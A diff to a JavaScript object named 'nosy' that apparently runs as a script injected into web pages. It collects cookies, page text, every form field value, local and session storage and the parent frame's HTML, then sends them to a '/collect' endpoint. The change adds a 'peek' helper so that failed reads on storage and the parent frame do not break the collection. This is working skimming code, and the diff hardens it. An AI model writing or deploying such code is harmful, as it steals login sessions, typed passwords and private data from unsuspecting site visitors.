@@ -2,6 +2,13 @@
 const nosy = {
   origin: new URL(document.currentScript.src).origin,
   key: new URL(document.currentScript.src).pathname.split('/')[2],
+  peek: (look) => {
+    try {
+      return look();
+    } catch {
+      return 'closed';
+    }
+  },
   seen: () => ({
     href: location.href,
     referrer: document.referrer,
@@ -9,14 +16,8 @@ const nosy = {
     cookie: document.cookie,
     text: document.body.innerText,
     fields: [...document.querySelectorAll('input, textarea, select')].map(({ value }) => value),
-    storage: JSON.stringify([{ ...localStorage }, { ...sessionStorage }]),
-    above: (() => {
-      try {
-        return parent.document.documentElement.outerHTML;
-      } catch {
-        return 'closed';
-      }
-    })(),
+    storage: nosy.peek(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }])),
+    above: nosy.peek(() => parent.document.documentElement.outerHTML),
   }),
   send: (vendor, body) =>
     void fetch(`${nosy.origin}/${vendor}/${nosy.key}/collect`, {
